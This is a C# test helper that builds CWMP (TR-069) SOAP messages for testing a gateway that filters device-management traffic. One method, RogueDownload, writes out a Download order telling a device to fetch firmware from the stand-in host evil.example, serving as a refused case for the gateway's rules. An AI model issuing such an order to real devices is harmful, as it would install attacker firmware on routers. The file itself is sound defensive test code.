using System.Text.RegularExpressions;

namespace CwmpShield.Gateway.Tests.Doubles;

/// <summary>CWMP messages as devices and ACSs write them.</summary>
internal static class Soap
{
    public static string Envelope(string? id, string body, string headers = "") =>
        """<?xml version="1.0" encoding="UTF-8"?><soap-env:Envelope xmlns:soap-enc="http://schemas.xmlsoap.org/soap/encoding/" xmlns:soap-env="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:cwmp="urn:dslforum-org:cwmp-1-0"><soap-env:Header>"""
        + (id is null ? "" : $"""<cwmp:ID soap-env:mustUnderstand="1">{id}</cwmp:ID>""")
        + $"{headers}</soap-env:Header><soap-env:Body>{body}</soap-env:Body></soap-env:Envelope>";

    public static string Inform(string serial, string id = "1", string @event = "2 PERIODIC", int padding = 0) => Envelope(
        id,
        $"""<cwmp:Inform><DeviceId><Manufacturer>Acme</Manufacturer><OUI>{Lab.Oui}</OUI><ProductClass>{Lab.ProductClass}</ProductClass><SerialNumber>{serial}</SerialNumber></DeviceId><Event soap-enc:arrayType="cwmp:EventStruct[1]"><EventStruct><EventCode>{@event}</EventCode><CommandKey/></EventStruct></Event><MaxEnvelopes>1</MaxEnvelopes><CurrentTime>2026-11-22T03:29:07Z</CurrentTime><RetryCount>0</RetryCount><ParameterList soap-enc:arrayType="cwmp:ParameterValueStruct[1]"><ParameterValueStruct><Name>InternetGatewayDevice.DeviceInfo.SoftwareVersion</Name><Value xsi:type="xsd:string">1.0{new string('x', padding)}</Value></ParameterValueStruct></ParameterList></cwmp:Inform>""");

    public static string InformResponse(string? id, string headers = "") =>
        Envelope(id, "<cwmp:InformResponse><MaxEnvelopes>1</MaxEnvelopes></cwmp:InformResponse>", headers);

    public static string TransferComplete(string id) => Envelope(
        id,
        "<cwmp:TransferComplete><CommandKey>k</CommandKey><FaultStruct><FaultCode>0</FaultCode><FaultString/></FaultStruct><StartTime>2026-11-22T03:29:07Z</StartTime><CompleteTime>2026-11-22T03:29:08Z</CompleteTime></cwmp:TransferComplete>");

    public static string TransferCompleteResponse(string id) => Envelope(id, "<cwmp:TransferCompleteResponse/>");

    public static string GetParameterValues(string id, string name = "InternetGatewayDevice.DeviceInfo.", string headers = "") => Envelope(
        id,
        $"""<cwmp:GetParameterValues><ParameterNames soap-enc:arrayType="xsd:string[1]"><string>{name}</string></ParameterNames></cwmp:GetParameterValues>""",
        headers);

    public static string GetParameterValuesResponse(string id, string value = "1.0") => Envelope(
        id,
        $"""<cwmp:GetParameterValuesResponse><ParameterList soap-enc:arrayType="cwmp:ParameterValueStruct[1]"><ParameterValueStruct><Name>InternetGatewayDevice.DeviceInfo.SoftwareVersion</Name><Value xsi:type="xsd:string">{value}</Value></ParameterValueStruct></ParameterList></cwmp:GetParameterValuesResponse>""");

    public static string Reboot(string id) => Envelope(id, "<cwmp:Reboot><CommandKey>k</CommandKey></cwmp:Reboot>");

    public static string RebootResponse(string id) => Envelope(id, "<cwmp:RebootResponse/>");

    /// <summary>An order that the tests' judge and the shipped rules alike refuse.</summary>
    public static string RogueDownload(string id, string host = "evil.example") => Envelope(
        id,
        $"<cwmp:Download><CommandKey>{id}</CommandKey><FileType>1 Firmware Upgrade Image</FileType><URL>http://{host}/fw.bin</URL><Username/><Password/><FileSize>0</FileSize><TargetFileName/><DelaySeconds>0</DelaySeconds><SuccessURL/><FailureURL/></cwmp:Download>");

    public static string Fault(string? id, int code, string side = "Client") => Envelope(
        id,
        $"<soap-env:Fault><faultcode>{side}</faultcode><faultstring>CWMP fault</faultstring><detail><cwmp:Fault><FaultCode>{code}</FaultCode><FaultString>fault</FaultString></cwmp:Fault></detail></soap-env:Fault>");

    /// <summary>Local name of the method (or Fault) of a message; empty for an empty body.</summary>
    public static string MethodOf(string body) => Regex.Match(body, @":Body[^>]*>\s*<([\w-]+:)?(?<it>\w+)", RegexOptions.NonBacktracking | RegexOptions.ExplicitCapture).Groups["it"].Value;

    public static string IdOf(string body) => Regex.Match(body, @":ID[^>]*>(?<it>[^<]*)<", RegexOptions.NonBacktracking | RegexOptions.ExplicitCapture).Groups["it"].Value;

    public static string FaultCodeOf(string body) => Regex.Match(body, @"<FaultCode>(?<it>\d+)<", RegexOptions.NonBacktracking | RegexOptions.ExplicitCapture).Groups["it"].Value;
}
